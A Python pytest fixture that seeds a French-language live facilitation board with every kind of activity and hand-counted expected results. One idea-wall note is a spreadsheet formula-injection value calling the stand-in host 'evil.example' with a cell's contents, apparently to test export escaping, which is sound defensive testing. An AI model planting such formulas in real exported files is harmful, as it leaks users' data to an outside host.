"""A session run on the live board with answers of every kind, counted by hand.

Everything goes through the live board's own services (join, answer, contribute, control)
as on the projector; only the expected numbers are written here.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass

import pytest
from flask import g, request_started

from facilitation.live import services as live
from facilitation.live.models import Activity, Board, LiveParticipant
from facilitation.participants import services as participants

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Voir")'
HIDDEN_NOTE = "Le docteur Martin m'a mal parlé"  # names someone: hidden by moderation
HIDDEN_QUESTION = "Mon numéro : 06 12 34 56 78"
PSEUDONYMS = ("Colibri", "Baobab", "Tilleul", "Mimosa")


@pytest.fixture(autouse=True)
def fresh_request_globals(app):
    """Each request starts without the user and locale a previous request cached in ``g``."""

    def forget(sender, **_):
        g.pop("_login_user", None)
        g.pop("_flask_babel", None)

    request_started.connect(forget, app)
    yield
    request_started.disconnect(forget, app)


@dataclass
class Seeded:
    board: Board
    activities: dict[str, Activity]
    phones: list[LiveParticipant]


def _run(actor, board, activity, answers, *, reveal=True, before_close=None):
    """Put the activity on the board, open it, take the answers, reveal, close."""
    live.control(actor, board, "goto", {"activity_id": activity.id})
    live.control(actor, board, "open")
    for phone, value in answers:
        live.submit_answer(phone, activity.id, secrets.token_hex(8), value)
    if before_close:
        before_close()
    if reveal:
        live.control(actor, board, "reveal")
    live.control(actor, board, "close")


@pytest.fixture
def seeded(world) -> Seeded:
    """world.session, run with four phones (pseudonyms given) and every kind of activity.

    Hand counts: poll 2-1-0 (3 people); météo 4,5,4 (mean 4.3); words santé ×2, papiers ×1;
    idea wall 3 visible notes + 1 hidden, votes 3+2 / 1 (2 voters); ranking 2 answers,
    never revealed; quiz 2 right / 1 wrong, right answer shown; débat 3 people, 2 moved;
    questions 2 visible + 1 hidden, 3 upvoters. People present at the roll call: 2, of
    whom 1 first visit (the other came before); one excused.
    """
    actor = live.Actor(user=world.mediator)
    board = live.board_for_session(world.mediator, world.session)
    add = lambda kind, prompt, config: live.add_activity(  # noqa: E731
        world.mediator, board, kind=kind, prompt=prompt, config=config
    )
    a = {
        "poll": add("poll", "Avez-vous un médecin traitant ?", {"choices": ["Oui", "Non", "?"]}),
        "scale": add("scale", "Votre météo du jour ?", {"style": "weather"}),
        "wordcloud": add("wordcloud", "Un mot pour la santé", {"max_words": 2}),
        "ideas": add("ideas", "Qu'est-ce qui bloque ?", {"dots": 3}),
        "ranking": add("ranking", "Nos priorités", {"items": ["Logement", "Papiers", "Soins"]}),
        "quiz": add(
            "quiz",
            "L'AME est gratuite. Vrai ou faux ?",
            {"choices": ["Vrai", "Faux"], "correct": [0]},
        ),
        "debate": add("debate", "On choisit son médecin.", {"left": "Non", "right": "Oui"}),
        "questions": add("questions", "Vos questions", {}),
    }
    phones = [
        live.join(board, secrets.token_urlsafe(16), pseudonym=p, language="fr") for p in PSEUDONYMS
    ]
    p1, p2, p3, p4 = phones
    _run(actor, board, a["poll"], [(p1, 0), (p2, 0), (p3, 1)])
    _run(actor, board, a["scale"], [(p1, 4), (p2, 5), (p3, 4)])
    _run(actor, board, a["wordcloud"], [(p1, ["Santé"]), (p2, ["santé", "Papiers"])])

    # Idea wall: notes, a column, one note hidden, then dot voting.
    ideas = a["ideas"]
    live.control(actor, board, "goto", {"activity_id": ideas.id})
    live.control(actor, board, "open")
    notes = {}
    for phone, text in [(p1, "Les papiers"), (p2, HYPERLINK), (p3, HIDDEN_NOTE), (p4, "La langue")]:
        notes[text] = live.contribute(phone, ideas.id, secrets.token_hex(8), text).contribution_id
    live.control(actor, board, "add_column", {"name": "Démarches"})
    live.control(
        actor, board, "group", {"contribution_id": notes["Les papiers"], "column": "Démarches"}
    )
    live.control(actor, board, "moderate", {"contribution_id": notes[HIDDEN_NOTE], "hidden": True})
    live.control(actor, board, "phase", {"phase": "vote"})
    live.submit_answer(p1, ideas.id, "vote-p1-0001", {str(notes["Les papiers"]): 3})
    live.submit_answer(
        p2, ideas.id, "vote-p2-0001", {str(notes["Les papiers"]): 2, str(notes[HYPERLINK]): 1}
    )
    live.control(actor, board, "reveal")
    live.control(actor, board, "close")

    _run(actor, board, a["ranking"], [(p1, [1, 0, 2]), (p2, [1, 2, 0])], reveal=False)
    _run(
        actor,
        board,
        a["quiz"],
        [(p1, 0), (p2, 0), (p3, 1)],
        before_close=lambda: live.control(actor, board, "reveal_answer", {"revealed": True}),
    )

    debate = a["debate"]
    live.control(actor, board, "goto", {"activity_id": debate.id})
    live.control(actor, board, "open")
    for phone, place in [(p1, 1), (p2, 2), (p3, 5)]:
        live.submit_answer(phone, debate.id, secrets.token_hex(8), place)
    live.control(actor, board, "phase", {"phase": "final"})
    for phone, place in [(p1, 3), (p2, 4), (p3, 5)]:
        live.submit_answer(phone, debate.id, secrets.token_hex(8), place)
    live.control(actor, board, "reveal")
    live.control(actor, board, "close")

    questions = a["questions"]
    live.control(actor, board, "goto", {"activity_id": questions.id})
    live.control(actor, board, "open")
    asked = {}
    for phone, text in [
        (p1, "Où trouver un interprète ?"),
        (p2, "Combien de temps pour l'AME ?"),
        (p3, HIDDEN_QUESTION),
    ]:
        asked[text] = live.contribute(
            phone, questions.id, secrets.token_hex(8), text
        ).contribution_id
    live.control(
        actor, board, "moderate", {"contribution_id": asked[HIDDEN_QUESTION], "hidden": True}
    )
    live.control(
        actor, board, "mark_answered", {"contribution_id": asked["Combien de temps pour l'AME ?"]}
    )
    interpreter = asked["Où trouver un interprète ?"]
    for phone, upvoted in [(p1, [interpreter]), (p2, [interpreter]), (p4, [interpreter])]:
        live.submit_answer(phone, questions.id, secrets.token_hex(8), upvoted)
    live.control(actor, board, "reveal")

    # Roll call: two present (one for the first time), one excused.
    from datetime import timedelta

    from tests import factories

    earlier = factories.session(
        world.cycle, theme="Séance d'avant", starts_on=world.session.starts_on - timedelta(days=7)
    )
    nour = participants.create_participant(world.mediator, world.space, "Nour")
    atlas = participants.create_participant(world.mediator, world.space, "Atlas")
    zebre = participants.create_participant(world.mediator, world.space, "Zèbre")
    participants.record_attendance(world.mediator, earlier, nour, "present")
    participants.record_attendance(world.mediator, world.session, nour, "present")
    participants.record_attendance(world.mediator, world.session, atlas, "present")
    participants.record_attendance(world.mediator, world.session, zebre, "excused")
    return Seeded(board=board, activities=a, phones=phones)
